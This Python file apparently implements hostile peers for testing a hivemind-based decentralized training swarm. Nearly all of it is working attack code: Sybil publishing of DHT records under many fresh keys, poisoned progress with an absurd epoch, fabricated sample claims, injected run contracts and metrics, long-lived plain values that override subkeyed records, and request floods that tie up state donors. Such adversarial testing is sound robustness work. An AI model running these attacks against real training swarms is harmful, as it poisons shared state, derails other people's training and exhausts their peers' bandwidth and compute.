"""The attackers of hostile_peer.py without training: untrusted peers that store records and send many requests."""

import asyncio
import contextlib
import itertools
import json
import sys
import threading
import time
from collections.abc import Callable, Sequence
from functools import partial

import hivemind
from google.protobuf.wrappers_pb2 import BytesValue
from hivemind.dht.crypto import RSASignatureValidator
from hivemind.dht.node import DHTNode
from hivemind.dht.routing import DHTID
from hivemind.dht.validation import DHTRecord
from hivemind.p2p import PeerID
from hivemind.utils import get_dht_time
from hivemind.utils.crypto import RSAPrivateKey
from hivemind.utils.serializer import MSGPackSerializer
from records import start_dht_as

from common.console import handle_stop_signals
from swarm.optimizer_state import StateAverager
from swarm.processes import shut_down

ABSURD_EPOCH = 10**9
LIFETIME = 600.0  # seconds of a record, as of the trainers' records
STAYING = 5  # peers with new keys that stay; if there are more, each leaves after it has stored its record
STAYED: list[hivemind.DHT] = []


def note(act: str, **facts) -> None:
    """Print an act for attacks.py; any process of this peer may call this."""
    print(json.dumps(dict(act=act, time=time.time(), **facts)), flush=True)


# --- records with new keys --------------------------------------------------------------------------------------------


def publish(dht: hivemind.DHT, what: str, key: str, make_value: Callable[[bytes], dict], count: int) -> None:
    """Store this number of values, each by a peer with a new key, because a peer can store only its own records."""
    stored, peers, initial_peers = 0, [], list(map(str, dht.initial_peers))
    for _ in range(count):
        signer = RSASignatureValidator(private_key := RSAPrivateKey())
        peers.append(peer := start_dht_as(private_key, initial_peers, [signer], ensure_bootstrap_success=False))
        value, expiration = make_value(peer.peer_id.to_bytes()), get_dht_time() + LIFETIME
        stored += peer.store(key, value, subkey=signer.local_public_key, expiration_time=expiration)
        if count > STAYING:
            peers.pop().shutdown()
    note(f"{what} by {count} keys", stored=stored)
    STAYED.extend(peers)


def find_epoch(dht: hivemind.DHT, prefix: str) -> int:
    """Return the swarm's epoch, or any number in a closed run."""
    entry = dht.get(f"{prefix}_progress", latest=True)
    return max(item.value["epoch"] for item in entry.value.values() if item.value) if entry else 5


# --- records ----------------------------------------------------------------------------------------------------------


async def give_to_all(node: DHTNode, records: list[DHTRecord]) -> int:
    """Send these records to each known peer, and return how often one was stored."""
    stored = 0
    for peer in list(node.protocol.routing_table.peer_id_to_uid):
        answer = await node.protocol.call_store(
            peer,
            [DHTID.from_bytes(record.key) for record in records],
            [record.value for record in records],
            [record.expiration_time for record in records],
            [MSGPackSerializer.loads(record.subkey) if record.subkey else None for record in records],
        )
        stored += sum(answer or [])
    return stored


async def give_plain_values(_: hivemind.DHT, node: DHTNode, keys: tuple[str, ...]) -> int:
    value, expiration = MSGPackSerializer.dumps(True), get_dht_time() + 23 * 3600
    records = [DHTRecord(DHTID.generate(source=key).to_bytes(), b"", value, expiration) for key in keys]
    return await give_to_all(node, records)


def store_plain_values(dht: hivemind.DHT, prefix: str, terms: dict) -> None:
    """Store a value without subkeys, which lives longer than all with subkeys, under the keys of groups and states."""
    keys = (f"{prefix}_grad_averager.0b", f"{prefix}_state_averager.all_averagers")
    note("stores plain values", stored=dht.run_coroutine(partial(give_plain_values, keys=keys)))


def make_progress(epoch: int, peer_id: bytes) -> dict:
    return dict(
        peer_id=peer_id,
        epoch=epoch,
        samples_accumulated=0,
        samples_per_second=1.0,
        time=get_dht_time(),
        client_mode=False,
    )


def report_absurd_epoch(dht: hivemind.DHT, prefix: str, terms: dict) -> None:
    publish(dht, "epoch 10**9", f"{prefix}_progress", partial(make_progress, ABSURD_EPOCH), 5)


def flood_progress(dht: hivemind.DHT, prefix: str, terms: dict) -> None:
    publish(dht, "progress", f"{prefix}_progress", partial(make_progress, find_epoch(dht, prefix)), 30)


def claim_samples(dht: hivemind.DHT, prefix: str, terms: dict) -> None:
    """Claim a whole batch twice a second, and the next one within microseconds."""
    batch, own_key = int(terms.get("target_batch_size", 160)), RSASignatureValidator().local_public_key

    def claim() -> None:
        while True:
            progress = make_progress(find_epoch(dht, prefix), dht.peer_id.to_bytes())
            progress |= dict(samples_accumulated=batch, samples_per_second=1e9)
            dht.store(f"{prefix}_progress", progress, get_dht_time() + LIFETIME, subkey=own_key)
            time.sleep(0.5)

    threading.Thread(target=claim, daemon=True).start()
    note("claims samples")


def publish_contracts(dht: hivemind.DHT, prefix: str, terms: dict, count: int = 5) -> None:
    contract = dict(joined=0.0, contract=terms | {"target_batch_size": "1"}, flags="")  # the oldest possible
    publish(dht, "contracts", f"{prefix}_run", lambda _: contract, count)


def make_metrics(epoch: int, mini_steps: int) -> dict:
    floats = [
        "samples_per_second",
        "grad_norm",
        "learning_rate",
        "epoch_seconds",
        "waiting_seconds",
        "averaging_seconds",
    ]
    numbers = ["samples_accumulated", "total_samples", "skipped_steps", "bytes_sent", "bytes_received"]
    return dict(
        dict.fromkeys(floats, 0.0) | dict.fromkeys(numbers, 0),
        epoch=epoch,
        loss=0.01 * mini_steps,
        mini_steps=mini_steps,
        averaged_with=1,
        num_peers=1,
        client_mode=False,
    )


def report_metrics(dht: hivemind.DHT, prefix: str, terms: dict, count: int, mini_steps: int) -> None:
    metrics = make_metrics(find_epoch(dht, prefix), mini_steps)
    publish(dht, "metrics", f"{prefix}_metrics", lambda _: metrics, count)


# --- requests ---------------------------------------------------------------------------------------------------------


async def ask(node: DHTNode, prefix: str, peer: PeerID, epoch: int, lineage: str = "", blocks: Sequence = ()) -> list:
    """Return the messages of a donor."""
    stub = StateAverager.get_stub(node.p2p, peer, namespace=f"{prefix}_state_averager")
    request = BytesValue(value=MSGPackSerializer.dumps([epoch, lineage, list(blocks), b""]))
    return [message async for message in await stub.rpc_download_state(request)]


async def ask_for_states(_: hivemind.DHT, node: DHTNode, prefix: str) -> tuple[int, int]:
    """Request 60 states at once, and return how many arrived and their bytes. Runs in the DHT's process."""
    found = await node.get(f"{prefix}_state_averager.all_averagers", latest=True)
    # in a closed run, the connected peers
    peers = [PeerID(peer) for peer in found.value] if found else [info.peer_id for info in await node.p2p.list_peers()]
    donors, size, whole = itertools.cycle(peers), 0, 0

    async def ask_for_state(peer: PeerID) -> None:
        nonlocal whole, size
        described = MSGPackSerializer.loads((await ask(node, prefix, peer, 0))[0].metadata)
        # 36 bytes describe a block
        numbers = list(range(len(described["digests"]) // 36))
        answer = await ask(node, prefix, peer, described["epoch"], described["lineage"], numbers)
        size += sum(message.ByteSize() for message in answer)
        whole += len(answer) >= len(numbers)

    asked = (asyncio.wait_for(ask_for_state(next(donors)), 60) for _ in range(60))
    await asyncio.gather(*asked, return_exceptions=True)
    return whole, size


def ask_for_all(dht: hivemind.DHT, prefix: str, terms: dict) -> None:
    note("begins to ask")
    states, size = dht.run_coroutine(partial(ask_for_states, prefix=prefix))
    note("has asked", states=states, megabytes=round(size / 1e6, 1))


async def occupy_donors(_: hivemind.DHT, node: DHTNode, prefix: str) -> None:
    """Ask each donor for a description and one block of its state every 2.5 s, forever."""
    while True:
        with contextlib.suppress(Exception):
            found = await node.get(f"{prefix}_state_averager.all_averagers", latest=True)
            for peer in found.value:
                described = MSGPackSerializer.loads((await ask(node, prefix, PeerID(peer), 0))[0].metadata)
                await ask(node, prefix, PeerID(peer), described["epoch"], described["lineage"], [0])
        await asyncio.sleep(2.5)


def occupy(dht: hivemind.DHT, prefix: str, terms: dict) -> None:
    """Take all places of the donors with nine keys that hardly fetch."""
    for _ in range(9):
        peer = start_dht_as(RSAPrivateKey(), list(map(str, dht.initial_peers)), [], ensure_bootstrap_success=False)
        STAYED.append(peer)
        peer.run_coroutine(partial(occupy_donors, prefix=prefix), return_future=True)
    note("occupies donors", keys=len(STAYED))


STRANGERS = {
    "plain_value": store_plain_values,
    "epoch_1e9": report_absurd_epoch,
    "progress_30": flood_progress,
    "samples": claim_samples,
    "contract_first": partial(publish_contracts, count=1),
    "contracts_5": publish_contracts,
    "metrics_1": partial(report_metrics, count=1, mini_steps=10**6),
    "metrics_30": partial(report_metrics, count=30, mini_steps=100),
    "ask_60": ask_for_all,
    "ask_9": occupy,
}


def main(kind: str, swarm, *groups) -> None:
    """Attack once, and stay, because peers would notice that this one has left."""
    signer = RSASignatureValidator()
    dht = hivemind.DHT(
        initial_peers=swarm.initial_peers,
        host_maddrs=swarm.host_maddrs,
        start=True,
        record_validators=[signer],
        ensure_bootstrap_success=False,  # a closed run answers no ping
    )
    note("is there", peer=str(dht.peer_id))
    stop = handle_stop_signals()
    found = dht.get(f"{swarm.experiment_prefix}_run", latest=True)
    terms = next(iter(found.value.values())).value["contract"] if found else {}
    STRANGERS[kind](dht, swarm.experiment_prefix, terms)
    stop.wait()
    for peer in (dht, *STAYED):
        shut_down(peer)
    sys.exit(0)
